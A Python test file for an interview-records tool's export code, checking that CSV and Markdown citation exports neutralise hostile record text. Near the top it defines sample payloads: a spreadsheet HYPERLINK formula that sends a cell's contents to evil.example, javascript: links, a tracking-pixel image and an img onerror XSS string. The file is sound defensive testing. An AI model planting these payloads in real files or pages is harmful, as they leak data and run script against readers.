"""What HQ writes out cannot be turned against the person who opens it: no live formula in
a spreadsheet unannounced, no link, image or HTML from record text in a rendered report."""

from __future__ import annotations

import csv
import html
import io
import re
from pathlib import Path

import cmarkgfm
import pytest

from fieldkit import hq
from fieldkit import kit as kitx
from fieldkit.core.errors import FieldkitError
from fieldkit.core.record import validate
from fieldkit.hq.exports import ExportFormat, export, export_file, export_text
from fieldkit.vault import records
from tests.builders import Network

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LINK = "[click here](javascript:alert(1))"
IMAGE = "![](http://tracker.example/pixel.png?who=hq)"
ANCHOR = "<a href=javascript:alert(1)>read more</a>"
BARE = "see https://evil.example/x or www.evil.example"
REFERENCE = "[the police][1] came\n\n[1]: http://evil.example/ref"
MARKUP = "# Not a heading\n- not a list\n1. nor this\n*nor* _this_ `code` | a | b |"


def _send(network: Network, **fields: object) -> None:
    record = {
        "interview_date": "2020-02-18",
        "place": "Masanchi",
        "role": "witness",
        "organisation": "ADC Memorial",
        "status": "ready",
        "quotes": ["They came at night."],
        **fields,
    }
    kit = network.kits[0]
    records.save(kit, validate(record))
    summary = kitx.export_bundle(kit, network.usb, allow_unreviewed=True)
    assert summary.path is not None
    hq.import_bundle(network.hq, summary.path)


def test_uwazi_csv_keeps_uwazis_data_and_counts_what_a_spreadsheet_would_run(
    network: Network, tmp_path: Path
) -> None:
    _send(network, place="@Masanchi", quotes=[FORMULA, "- They came at night.", "Plain."])
    target = tmp_path / "uwazi.csv"
    written = export_file(network.hq, ExportFormat.UWAZI_CSV, target)
    assert written.count == 3
    # Uwazi stores a cell verbatim: a guard character would become part of its data.
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))
    assert [r["quote"] for r in rows] == [FORMULA, "- They came at night.", "Plain."]
    assert {r["place"] for r in rows} == {"@Masanchi"}
    # place (x3) and two quotes: each one a spreadsheet program would take for a formula
    assert written.formula_cells == 5
    assert export_file(network.hq, ExportFormat.CSV, tmp_path / "plain.csv").formula_cells == 0


def test_a_byte_order_mark_is_only_for_the_spreadsheet_csv(
    network: Network, tmp_path: Path
) -> None:
    _send(network)
    for fmt in (ExportFormat.UWAZI_CSV, ExportFormat.JSONL, ExportFormat.CITATIONS):
        with pytest.raises(FieldkitError, match="spreadsheet CSV only"):
            export(network.hq, fmt, tmp_path / "out", bom=True)
        assert not (tmp_path / "out").exists()
    assert export(network.hq, ExportFormat.CSV, tmp_path / "out.csv", bom=True) == 1
    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def _rendered(markdown: str) -> str:
    """The citations as GitHub renders them, raw HTML let through (as many renderers do)."""
    return str(
        cmarkgfm.github_flavored_markdown_to_html(
            markdown, options=cmarkgfm.Options.CMARK_OPT_UNSAFE
        )
    )


def _shown_text(rendered: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", rendered))


@pytest.mark.parametrize(
    "hostile", [LINK, IMAGE, ANCHOR, BARE, REFERENCE, MARKUP, "<img src=x onerror=alert(1)>"]
)
def test_citations_show_hostile_quotes_as_text(network: Network, hostile: str) -> None:
    _send(network, quotes=[hostile])
    markdown = export_text(network.hq, ExportFormat.CITATIONS)
    rendered = _rendered(markdown)
    assert not re.search(r"<(a|img|h\d|ul|ol|li|em|strong|code|table)\b", rendered), rendered
    shown = _shown_text(rendered)
    for paragraph in hostile.split("\n\n"):
        for line in paragraph.split("\n"):
            assert line in shown, (line, markdown)


def test_citations_escape_role_place_and_organisation(network: Network) -> None:
    _send(
        network,
        role=f"witness {ANCHOR}",
        place="[Korday](http://evil.example)",
        organisation="*ADC* ![x](http://tracker.example/o.png)",
    )
    markdown = export_text(network.hq, ExportFormat.CITATIONS)
    rendered = _rendered(markdown)
    assert "<a" not in rendered and "<img" not in rendered and "<em" not in rendered
    shown = _shown_text(rendered)
    assert (
        "(Witness <a href=javascript:alert(1)>read more</a>. Interview with *ADC* "
        "![x](http://tracker.example/o.png), February 18, 2020, [Korday](http://evil.example))"
    ) in shown


def test_citations_of_plain_text_stay_plain(network: Network) -> None:
    """Escaping touches only what would be markup: a report writer pastes the rest as is."""
    _send(network, quotes=["Они пришли ночью (в 2 часа) [со слов соседа]: «всё горело»."])
    markdown = export_text(network.hq, ExportFormat.CITATIONS)
    assert "> «Они пришли ночью (в 2 часа) [со слов соседа]: «всё горело».»" in markdown
